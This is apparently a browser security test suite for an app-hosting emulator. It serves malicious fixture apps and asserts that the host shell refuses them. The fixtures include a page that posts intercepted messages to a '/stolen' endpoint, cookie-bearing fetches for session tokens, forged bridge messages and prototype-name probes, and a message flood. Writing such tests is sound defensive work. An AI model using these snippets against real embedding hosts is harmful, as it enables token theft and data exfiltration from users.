import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startEmulator } from '../../src/index.ts';
import type { Emulator } from '../../src/index.ts';
import { appFrame, openSurface, surfaceUrl } from '../../src/testing.ts';
import { describeInBrowser } from '../browser/chromium.ts';
import { WebApp, manifestFor } from '../browser/web-app.ts';

let emulator: Emulator;
let app: WebApp;
let elsewhere: WebApp;

/** Tells how something that must not work ended. */
const attempt = (action: string) => `
  try { const result = await (async () => { ${action} })(); say('reached: ' + JSON.stringify(result)); }
  catch (error) { say('refused: ' + (error.name ?? error)); }`;

beforeAll(async () => {
  emulator = await startEmulator();
  const url = emulator.url;
  elsewhere = await WebApp.serve({
    '/trap': `
      window.addEventListener('message', (event) => fetch('/stolen', { method: 'POST', body: event.data.type }));
      say('waiting');`,
  });
  app = await WebApp.serve({
    '/good': `
      const bridge = await createAppBridge();
      say((await bridge.method.call('getSessionToken')).split('.').length);`,
    '/dom': attempt(`return parent.document.title;`),
    '/top': attempt(`top.location = '${elsewhere.url}/trap'; return 'navigated';`),
    '/control': attempt(`return (await fetch('${url}/_emulator/v1/state')).status;`),
    '/token': attempt(`
      const path = '/account/identity/session-token?tenantId=7c9e6679-7425-40de-944b-e07fc1f90ae7';
      return (await fetch('${url}' + path, { credentials: 'include' })).json();`),
    '/blind': attempt(`
      await fetch('${url}/shell/?user=ben', { credentials: 'include', mode: 'no-cors' });
      await fetch('${url}/_emulator/v1/reset', { credentials: 'include', mode: 'no-cors', method: 'POST' });
      return 'sent';`),
    '/framing': `
      const frame = document.createElement('iframe');
      frame.src = '${url}/shell/?tenant=bergmann-outdoor';
      frame.onload = () => say('loaded');
      document.body.append(frame);`,
    '/leaving': `location = '${elsewhere.url}/trap';`,
    '/forger': `
      const [event] = await new Promise((resolve) => addEventListener('message', (event) => resolve([event])));
      const port = event.ports[0];
      const answers = [];
      port.onmessage = ({ data }) => {
        answers.push(data);
        if (data.id === 'last') say(JSON.stringify(answers));
      };
      const send = (message) => port.postMessage(message);
      send({ id: 'early', type: 'METHOD_CALL', body: { methodName: 'getSessionToken', args: [] } });
      send({ id: 'accept', type: 'METHOD_CALL', body: { methodName: 'completeHandshake', args: [] } });
      for (const type of ['METHOD_CALL_RETURN', 'METHOD_CALL_ERROR', 'EVENT_TRIGGER_CONFIRMATION']) {
        send({ id: crypto.randomUUID(), type, body: 'forged' });
      }
      for (const junk of [null, 7, 'text', [], { id: 1 }, { id: 'x', type: 'NONE' }]) send(junk);
      send({ id: 'proto', type: 'METHOD_CALL', body: { methodName: '__proto__', args: [] } });
      send({ id: 'last', type: 'METHOD_CALL', body: { methodName: 'constructor', args: [] } });`,
    '/flood': `
      const bridge = await createAppBridge();
      const calls = Array.from({ length: 3000 }, () => bridge.method.call('getCurrentTime').then(() => 'answered', (error) => error));
      const events = Array.from({ length: 3000 }, (_, n) => bridge.event.publish('Flood', { n }));
      await Promise.all([...calls, ...events]);
      const ends = await Promise.all(calls);
      const answered = ends.filter((end) => end === 'answered').length;
      say(answered >= 200 && answered + ends.filter((end) => /at once/.test(end)).length === 3000);`,
    '/thrower': `
      const bridge = await createAppBridge();
      bridge.method.expose('fail', () => { throw new RangeError('not today'); });
      bridge.method.expose('uncloneable', () => () => 'function');
      bridge.event.subscribe('News', async () => { throw new Error('listener failed'); });
      const sent = await bridge.method.call('getSessionToken', () => 'function').catch((error) => error.name);
      say(sent);`,
  });
});

afterAll(async () => {
  await emulator.close();
  await Promise.all([app.close(), elsewhere.close()]);
});

/** Opens a page of a fresh app in the shell, beside the well-behaved headless page of another one. */
async function openPage(page: Page, path: string): Promise<string> {
  const manifest = manifestFor(app.url, {
    name: `Bad ${path.slice(1)}`,
    erp: { menuItems: [{ id: 'page', name: 'Page', url: app.url + path }] },
  });
  const { slug } = await emulator.apps.register({ manifest });
  await emulator.apps.install(slug, 'bergmann-outdoor');
  await openSurface(page, emulator.url, { tenant: 'bergmann-outdoor', user: 'anna', app: slug });
  return slug;
}

const said = (page: Page, slug: string) => appFrame(page, slug).locator('output:not(:empty)').innerText();

/** The shell still hosts apps as it should. */
async function expectUsable(page: Page): Promise<void> {
  const slug = await openPage(page, '/good');
  expect(await said(page, slug)).toBe('3');
}

describeInBrowser('an app that means harm', ({ newPage }) => {
  it.each([
    ['/dom', 'the host page’s DOM', 'refused: SecurityError'],
    ['/top', 'the address of the host page', 'refused: SecurityError'],
    ['/control', 'the control API', 'refused: TypeError'],
    ['/token', 'tokens past its bridge, with the user’s cookie', 'refused: TypeError'],
  ])('(%s) cannot reach %s', async (path, _, outcome) => {
    const page = await newPage();
    expect(await said(page, await openPage(page, path))).toBe(outcome);
    expect(new URL(page.url()).origin).toBe(emulator.url);
  });

  it('changes neither who is signed in nor the emulator by requests it cannot read', async () => {
    const page = await newPage();
    const slug = await openPage(page, '/blind');
    expect(await said(page, slug)).toBe('reached: "sent"');
    await page.goto(surfaceUrl(emulator.url, { tenant: 'bergmann-outdoor' }));
    expect(await page.locator('.user').getAttribute('data-user')).toBe('anna.bergmann@example.com');
    expect(emulator.apps.get(slug).slug).toBe(slug);
  });

  it('cannot frame the host page in turn', async () => {
    const page = await newPage();
    const slug = await openPage(page, '/framing');
    expect(await said(page, slug)).toBe('loaded');
    const inner = page
      .frames()
      .find((frame: Frame) => frame.parentFrame()?.parentFrame() === page.mainFrame());
    expect(inner?.url()).toBe('chrome-error://chromewebdata/');
  });

  it('is offered no channel on an origin that its manifest does not name', async () => {
    // Registered as well, so that the page's policy lets the frame go there; the handshake is for the first alone.
    const manifest = manifestFor(elsewhere.url, { name: 'Elsewhere' });
    await emulator.apps.register({ manifest });
    const page = await newPage();
    const slug = await openPage(page, '/leaving');
    expect(await said(page, slug)).toBe('waiting');
    await expectUsable(page);
    expect(elsewhere.seen.filter(({ path }) => path === '/stolen')).toEqual([]);
  });

  it('is not let go to an origin that no manifest names', async () => {
    const stranger = await WebApp.serve({ '/': `say('here')` });
    const leaver = await WebApp.serve({ '/page': `location = '${stranger.url}/';` });
    const { slug } = await emulator.apps.register({ manifest: manifestFor(leaver.url, { name: 'Leaver' }) });
    await emulator.apps.install(slug, 'bergmann-outdoor');
    const page = await newPage();
    const blocked = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
    await openSurface(page, emulator.url, { tenant: 'bergmann-outdoor', user: 'anna', app: slug });
    await blocked;
    expect(stranger.seen).toEqual([]);
    await Promise.all([stranger.close(), leaver.close()]);
  });

  it('gains nothing by forged answers, junk and inherited names', async () => {
    const page = await newPage();
    const answers = JSON.parse(await said(page, await openPage(page, '/forger'))) as unknown;
    const refused = (id: string, name: string) => ({
      id,
      type: 'METHOD_CALL_ERROR',
      body: `${name} is not exposed`,
    });
    expect(answers).toEqual([
      refused('early', 'getSessionToken'),
      { id: 'accept', type: 'METHOD_CALL_RETURN' },
      refused('proto', '__proto__'),
      refused('last', 'constructor'),
    ]);
  });

  it('cannot drown the host page in a flood of messages', async () => {
    const page = await newPage();
    expect(await said(page, await openPage(page, '/flood'))).toBe('true');
    await page.locator('[data-action="inspector"]').click();
    expect(await page.locator('.messages li').count()).toBe(500);
    await page.locator('[data-action="close-inspector"]').click();
    await expectUsable(page);
  });

  it('does no harm by methods that throw and values that cannot be cloned', async () => {
    const page = await newPage();
    const slug = await openPage(page, '/thrower');
    expect(await said(page, slug)).toBe('DataCloneError');
    await page.locator('[data-action="inspector"]').click();
    await page.locator('[data-action="console-frame"]').selectOption({ label: 'Bad thrower · erp' });
    const outcomes = {
      fail: 'RangeError: not today',
      uncloneable: 'DataCloneError',
      absent: 'absent is not exposed',
    };
    for (const [method, outcome] of Object.entries(outcomes)) {
      await page.locator('[data-action="console-method"]').fill(method);
      await page.locator('[data-action="console-call"]').click();
      await page.locator('[data-action="console-result"]', { hasText: outcome }).waitFor();
    }
    await expectUsable(page);
  });
});
